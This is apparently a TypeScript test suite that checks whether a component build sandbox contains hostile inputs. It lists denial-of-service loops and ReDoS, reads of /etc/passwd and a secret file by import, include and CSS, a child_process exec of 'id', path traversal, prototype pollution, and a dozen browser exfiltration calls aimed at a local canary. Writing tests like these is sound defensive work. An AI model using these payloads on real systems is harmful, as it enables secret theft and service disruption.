// @module-tag long
import { existsSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TrialBuilds, TrialOutcome } from "../src/build/trial-builds/trial-build.ts";
import { type Canary, openCanary } from "./canary.ts";
import { attempts, type Targets } from "./hostile-code.ts";
import { casesOf } from "./long-form.ts";
import { type OpenTrials, openTrials, trialOf } from "./open-trials.ts";

const SECRET = "s3cret-of-the-registry-4711";

let opened: OpenTrials;
let trials: TrialBuilds;
let canary: Canary;
let targets: Targets;

beforeAll(async () => {
  opened = await openTrials();
  trials = opened.open();
  canary = await openCanary();
  targets = { secretFile: join(opened.folder, "key.txt"), outFile: join(opened.folder, "stolen"), port: canary.port };
  await writeFile(targets.secretFile, SECRET);
  process.env.SERVICE_SYNC_SECRET = SECRET;
});
afterAll(async () => {
  delete process.env.SERVICE_SYNC_SECRET;
  await canary.close();
  await opened.close();
});

const page = (script: string) => ({ "alert.html": `<p>Alert</p><script>${script}</script>` });
const react = (body: string) => ({ "alert.jsx": `export default function Alert() { ${body} }\n` });

/** What a component is made of that goes for the machine, and what its trial says. */
interface Hostile {
  files: Record<string, string> | (() => Record<string, string>);
  /** Matches why it failed; absent where it may be built. */
  error?: RegExp;
  /** Matches what was found or shown. */
  shows?: RegExp;
}

const HOSTILE: Record<string, Hostile> = {
  "a script that never ends": { files: react("for (;;);"), error: /did not finish within 10 seconds/ },
  "a template that never ends": {
    files: {
      "template.njk":
        "{% for i in range(0, 100000000) %}{% for j in range(0, 100000000) %}{{ i }}{% endfor %}{% endfor %}",
    },
    error: /did not finish within|memory/,
  },
  "partials that call each other": {
    files: { "alert.hbs": "{{> b}}{{> b}}", "b.hbs": "{{> alert}}{{> alert}}" },
    error: /call stack|recursion|memory|did not finish/,
  },
  "a regular expression in a declaration": {
    files: {
      "alert.decl.js": 'export default { id: "alert", title: String(/^(a+)+$/.test("a".repeat(40) + "b")) };',
      "alert.html": "<p>x</p>",
    },
    error: /did not finish within 10 seconds/,
  },
  "texts of two gigabytes": {
    files: react('let text = "x"; for (let i = 0; i < 31; i++) text += text; return text;'),
    error: /memory|too large|string too long/i,
  },
  "all that Node can, in React": {
    files: () => react(`return <b>{${attempts(targets)}}</b>;`),
    shows: /tried 24, worked: \[\]/,
  },
  "all that Node can, in a declaration": {
    files: () => ({
      "alert.decl.js": `export default { id: "alert", title: ${attempts(targets)} };`,
      "alert.html": "<p>x</p>",
    }),
    shows: /tried 24, worked: \[\]/,
  },
  "all that Node can, in Nunjucks": {
    files: () => ({
      "alert.json": JSON.stringify({ previews: { default: { values: { code: `return ${attempts(targets)}` } } } }),
      "template.njk": "<b>{{ range.constructor(code)() }}</b>",
    }),
    shows: /tried 24, worked: \[\]/,
  },
  "processes by the names of modules": {
    files: {
      "alert.jsx": 'import { execSync } from "node:child_process"; export default () => <b>{execSync("id")}</b>;\n',
    },
    error: /^alert\.jsx:1:26: Could not resolve "node:child_process"/,
  },
  "files of the machine, by import": {
    files: { "alert.jsx": 'import text from "/etc/passwd"; export default () => <b>{text}</b>;\n' },
    error: /is not read: it (?:cannot be read|lies outside)/,
  },
  "files of the machine, by include": {
    files: { "template.njk": '{% include "/etc/passwd" %}{% include "../../../../../etc/passwd" %}' },
    error: /the template \S+ doesn't exist/,
  },
  "files of the machine, by a style sheet": {
    files: () => ({
      "alert.html": "<p>x</p>",
      "alert.css": `@import "${targets.secretFile}"; p { background: url(../../../../key.txt) }`,
    }),
    error: /^alert\.css:1:55: Cannot use "\.\.\/\.\.\/key\.txt" as a URL/,
  },
  "other programs' sources": {
    files: {
      "alert.jsx": 'import db from "better-sqlite3"; import "esbuild"; export default () => <b>{String(db)}</b>;\n',
    },
    error: /"better-sqlite3" is not installed/,
  },
  "a path that leads out": { files: { "../../../evil.html": "<p>x</p>" }, error: /"\.\." segment/ },
  "a result made beforehand": { files: { "dist/alert-default.html": "<p>x</p>" }, error: /the build creates dist/ },
  "a file that is a folder": {
    files: { "alert.html": "<p>x</p>", parts: "x", "parts/a.css": "p {}" },
    error: /"parts" is both a file and a folder/,
  },
  "settings of its own": {
    files: { ...page(""), ".npmrc": "script-shell=/bin/sh" },
    error: /is a hidden file/,
  },
  "ten thousand variants": {
    files: {
      "alert.html": "<p>x</p>",
      "alert.json": JSON.stringify({
        previews: Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`v${index}`, {}])),
      }),
    },
    error: /declares 10000 previews\. Declare at most 24/,
  },
  "more than anybody looks at": {
    files: {
      ...react('return <b>{"x".repeat(1 << 20)}</b>;'),
      "alert.json": JSON.stringify({
        previews: Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`v${index}`, {}])),
      }),
    },
    error: /16 MiB|memory|too large|too much output|seconds/,
  },
  "prototypes in a declaration": {
    files: { "alert.html": "<p>x</p>", "alert.json": '{"__proto__": {"polluted": true}, "title": "x"}' },
    error: /__proto__/,
  },
  "a page that never ends": { files: page("for (;;);"), error: /the check failed|within 60 seconds/ },
  "a page that never ends, later": {
    files: page("requestAnimationFrame(() => { for (;;); });"),
    error: /the check failed|within 60 seconds/,
  },
  "a page that takes all memory": {
    files: page("const all = []; for (;;) all.push(new Uint8Array(8 << 20).fill(1));"),
    error: /more than 512 MB|the check failed/,
  },
  "a page of a million elements": {
    files: page(
      'for (let i = 0; i < 1e6; i++) document.body.appendChild(document.createElement("p")).textContent = i;',
    ),
  },
  "dialogs without end": {
    files: page(
      'onbeforeunload = () => "stay"; for (let i = 0; i < 50; i++) { alert(1); confirm(2); prompt(3); print(); }',
    ),
  },
  "a style sheet that explodes": {
    files: {
      "alert.html": `${"<div>".repeat(300)}x`,
      "alert.css": `@import "./alert.css";\n${"div:has(div:not(:has(p))) > ".repeat(40)}div { filter: blur(900px) blur(900px); box-shadow: ${Array.from({ length: 200 }, () => "0 0 900px red").join()}; width: 1e9px; height: 1e9px }`,
    },
  },
  "errors without end": {
    files: page('for (let i = 0; i < 2e5; i++) { setTimeout(() => { throw new Error("x".repeat(1000) + i); }); }'),
  },
};

/** A preview's script that tries each way out of its page. */
const leaving = (to: string) =>
  [
    `fetch("http://${to}/", { mode: "no-cors" })`,
    `navigator.sendBeacon("http://${to}/", "x")`,
    `new WebSocket("ws://${to}/")`,
    `new EventSource("http://${to}/")`,
    `import("http://${to}/a.js")`,
    `navigator.serviceWorker.register("/api/component/alert.js")`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://${to}/')"])))`,
    `open("http://${to}/")`,
    `new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }] }).createDataChannel("x")`,
    `document.body.append(Object.assign(document.createElement("iframe"), { src: "file:///etc/passwd" }))`,
    `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "1;url=http://${to}/" }))`,
    `document.forms[0].submit()`,
  ]
    .map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`)
    .join("\n");

const textOf = ({ error, findings, notes, artifacts }: TrialOutcome) =>
  [
    JSON.stringify({ error, findings, notes }),
    ...artifacts.map(({ bytes }) => Buffer.from(bytes).toString("latin1")),
  ].join("\n");

describe("a trial of a hostile component", { timeout: 150_000 }, () => {
  for (const [name, { files, error, shows }] of casesOf(Object.entries(HOSTILE), 6))
    it(`is an outcome: ${name}`, async () => {
      const before = canary.calls();
      const outcome = await trials.build(trialOf(typeof files === "function" ? files() : files));
      expect(outcome.ok).toBe(outcome.error === null);
      if (error) expect(outcome.error).toMatch(error);
      const text = textOf(outcome);
      if (shows) expect(text).toMatch(shows);
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain("root:x:0");
      expect(outcome.error ?? "").not.toContain(opened.folder);
      expect(canary.calls() - before).toBe(0);
      expect(existsSync(targets.outFile)).toBe(false);
      // Nothing of it is left, and nothing beside it was touched.
      expect(await opened.left()).toEqual(["key.txt"]);
    });

  it("sends no requests during a screenshot", async () => {
    const files = {
      "alert.html": `<form action="http://127.0.0.1:${canary.port}/"></form><script>${leaving(`127.0.0.1:${canary.port}`)}</script>`,
    };
    const outcome = await trials.build(trialOf(files));
    expect(outcome.findings.map(({ ruleId }) => ruleId)).toContain("outside-request");
    expect(canary.calls()).toBe(0);
  });

  it("leaves nothing to the next one", async () => {
    const { ok, error, findings } = await trials.build(
      trialOf({
        "alert.html": "<p>Plain</p>",
        "alert.json": JSON.stringify({ title: "A", group: "B", description: "C" }),
      }),
    );
    expect({ ok, error, findings }).toEqual({ ok: true, error: null, findings: [] });
  });
});
